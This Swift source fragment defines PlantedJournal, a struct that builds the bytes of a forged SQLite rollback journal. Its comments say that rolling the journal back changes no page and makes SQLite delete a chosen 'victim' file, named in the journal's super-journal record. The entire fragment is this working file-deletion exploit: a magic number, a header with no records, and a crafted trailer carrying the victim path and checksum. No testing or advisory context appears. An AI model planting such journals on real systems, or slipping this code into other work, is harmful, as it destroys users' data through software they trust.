/// A rollback journal whose rollback changes no page and deletes another file.
struct PlantedJournal {
  /// The file that SQLite deletes as the journal's super-journal.
  let victim: String
  let pageCount: Int
  let pageSize: Int

  /// The journal, as described at https://sqlite.org/fileformat2.html, "The Rollback Journal".
  var bytes: [UInt8] {
    let mark: [UInt8] = [0xD9, 0xD5, 0x05, 0xF9, 0x20, 0xA1, 0x63, 0xD7]
    // No records, a nonce, the number of pages, and the sizes of sectors and pages.
    let header =
      mark
      + [0, 7, UInt32(pageCount), 512, UInt32(pageSize)].flatMap { PlantedJournal.bigEndian($0) }
    let name = Array(victim.utf8)
    return header + [UInt8](repeating: 0, count: 512 - header.count) + PlantedJournal.bigEndian(1)
      + name + PlantedJournal.bigEndian(UInt32(name.count))
      + PlantedJournal.bigEndian(name.reduce(0) { $0 + UInt32($1) }) + mark
  }

  private static func bigEndian(_ number: UInt32) -> [UInt8] {
    [24, 16, 8, 0].map { UInt8(truncatingIfNeeded: number >> $0) }
  }
}
